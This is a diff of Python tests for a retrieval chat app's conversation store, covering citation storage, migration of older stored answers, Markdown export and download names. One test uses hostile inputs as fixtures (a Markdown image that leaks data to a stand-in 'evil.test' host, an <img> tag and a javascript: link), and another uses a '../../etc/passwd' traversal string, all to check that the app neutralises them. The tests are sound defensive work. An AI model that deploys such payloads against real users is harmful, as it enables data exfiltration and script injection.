@@ -4,15 +4,18 @@ export (rag.conversations.transcript)."""
 from __future__ import annotations
 
 import itertools
+import json
 import re
 import sqlite3
 import threading
+from dataclasses import asdict
 from pathlib import Path
 
 import pytest
 
+from rag.conversations.answer_json import dump_answer, load_answer
 from rag.conversations.history import Conversations, title_from
-from rag.conversations.transcript import file_name, to_markdown
+from rag.conversations.transcript import download_name, to_markdown
 from rag.errors import StoreError
 from rag.types import Answer, Citation, Hit
 from ui.markdown import neutralize_markdown
@@ -35,8 +38,7 @@ def answer_citing(*chunks: int, text: str = "", hits: tuple[Hit, ...] = ()) -> A
     hits = hits or tuple(hit(n) for n in range(1, 5))
     by_id = {h.chunk_id: (i, h) for i, h in enumerate(hits, start=1)}
     citations = tuple(
-        Citation(n=by_id[f"c{c}"][0], source=by_id[f"c{c}"][1].source, page=17, chunk_id=f"c{c}")
-        for c in chunks
+        Citation(n=by_id[f"c{c}"][0], hit=by_id[f"c{c}"][1], quotes=(f"Claim {c}",)) for c in chunks
     )
     return Answer(
         text=text or " ".join(f"Claim {c} [{by_id[f'c{c}'][0]}]." for c in chunks),
@@ -65,11 +67,13 @@ def store(tmp_path: Path) -> Conversations:
 
 def test_an_answer_comes_back_as_the_same_dataclasses(store: Conversations) -> None:
     answer = answer_citing(2, 1)
+    deck = hit(3, source="/docs/deck.pptx", page=0, locator="slide 3", ocr=True)
     answer = Answer(
         answer.text,
         answer.mode,
-        (*answer.citations, Citation(3, "/docs/deck.pptx", 0, "c3", locator="slide 3")),
-        (*answer.hits[:2], hit(3, source="/docs/deck.pptx", page=0, locator="slide 3", ocr=True)),
+        # a passage the answer does not hold among its hits is kept with its citation
+        (*answer.citations, Citation(3, deck, ("Revenue grew.",)), Citation(4, hit(9))),
+        (*answer.hits[:2], deck),
         answer.timings,
         answer.metadata,
     )
@@ -81,7 +85,48 @@ def test_an_answer_comes_back_as_the_same_dataclasses(store: Conversations) -> N
     assert loaded.messages[0] == question
     assert loaded.messages[1] == stored
     assert loaded.messages[1].answer == answer  # citations, hits, timings, metadata
+    assert loaded.messages[1].answer.citations[0].quotes == ("Claim 2",)
     assert loaded.messages[1].answer.hits[2].place() == "slide 3, OCR"
+
+
+def test_an_answer_stored_by_the_previous_version_reads_into_the_new_shape(
+    store: Conversations,
+) -> None:
+    """Citations were flat fields, and an extractive answer's quotes were only in its text:
+    the hit is found by chunk id among the answer's hits (made from the flat fields where
+    it is not there), the quotes read from the text once; an LLM's answer quotes nothing."""
+    place = {"source": "/docs/R-intro.pdf", "page": 17, "locator": "", "ocr": False}
+    old = {
+        "text": "*Missing values:* NA marks a missing value [2].\n\nUse is.na() to test [1]."
+        "\n\nA long one, clipped … [2].\n\n*Slides:* Revenue grew [3]!",
+        "mode": "extractive",
+        "citations": [
+            {"n": 2, "chunk_id": "c2", **place},
+            {"n": 1, "chunk_id": "c1", **place},
+            {"n": 3, "chunk_id": "c7", "source": "/d/deck.pptx", "page": 0,
+             "locator": "slide 3", "ocr": True},
+        ],
+        "hits": [asdict(hit(1)), asdict(hit(2))],
+        "timings": {"total_ms": 40.0},
+        "metadata": {"abstained": False},
+    }  # fmt: skip
+    conversation, _ = store.start("How are missing values represented?")
+    store.answer(conversation.id, answer_citing(1))
+    with sqlite3.connect(store.path) as db:
+        db.execute("UPDATE messages SET answer = ? WHERE role = 'assistant'", (json.dumps(old),))
+    loaded = store.load(conversation.id)
+    assert loaded is not None and loaded.messages[1].answer is not None
+    answer = loaded.messages[1].answer
+    deck = Hit("c7", "", "/d/deck.pptx", 0, 0.0, locator="slide 3", ocr=True)
+    assert answer.citations == (
+        Citation(2, hit(2), ("NA marks a missing value", "A long one, clipped")),
+        Citation(1, hit(1), ("Use is.na() to test",)),
+        Citation(3, deck, ("Revenue grew",)),
+    )
+    assert answer.hits == (hit(1), hit(2)) and answer.text == old["text"]
+    assert load_answer(dump_answer(answer)) == answer  # written again in the new shape
+    llm = load_answer(json.dumps({**old, "mode": "llm"}))
+    assert [c.quotes for c in llm.citations] == [(), (), ()]
 
 
 def test_newest_first_by_last_activity_and_per_collection(tmp_path: Path) -> None:
@@ -201,8 +246,8 @@ def test_markdown_numbers_citations_through_the_conversation(store: Conversation
             text="Use is.na [2]; x[1] is indexing, [7] is no citation [1, 2].",
             mode="llm",
             citations=(
-                Citation(1, "/docs/deck.pptx", 0, "c5", locator="slide 3"),
-                Citation(2, "/docs/R-intro.pdf", 17, "c2"),
+                Citation(1, deck),
+                Citation(2, hit(2)),
             ),
             hits=(deck, hit(2)),
         ),
@@ -230,14 +275,15 @@ def test_markdown_numbers_citations_through_the_conversation(store: Conversation
 
 def test_markdown_neutralises_untrusted_text(store: Conversations) -> None:
     hostile = "![x](http://evil.test/leak?d=1) <img src=x> # Title"
+    evil = hit(1, source="/docs/[evil](javascript:alert(1)).md", page=0)
     conversation, _ = store.start(hostile)
     store.answer(
         conversation.id,
         Answer(
             text=f"{hostile} [1]",
             mode="llm",
-            citations=(Citation(1, "/docs/[evil](javascript:alert(1)).md", 0, "c1"),),
-            hits=(hit(1, source="/docs/[evil](javascript:alert(1)).md", page=0),),
+            citations=(Citation(1, evil),),
+            hits=(evil,),
         ),
     )
     loaded = store.load(conversation.id)
@@ -251,6 +297,6 @@ def test_markdown_neutralises_untrusted_text(store: Conversations) -> None:
 
 def test_download_names_are_plain(store: Conversations) -> None:
     conversation, _ = store.start("../../etc/passwd? Missing values: NA & NaN")
-    assert file_name(conversation) == "etc-passwd-missing-values-na-nan.md"
+    assert download_name(conversation) == "etc-passwd-missing-values-na-nan.md"
     empty = store.create("???")
-    assert file_name(empty) == "conversation.md"
+    assert download_name(empty) == "conversation.md"
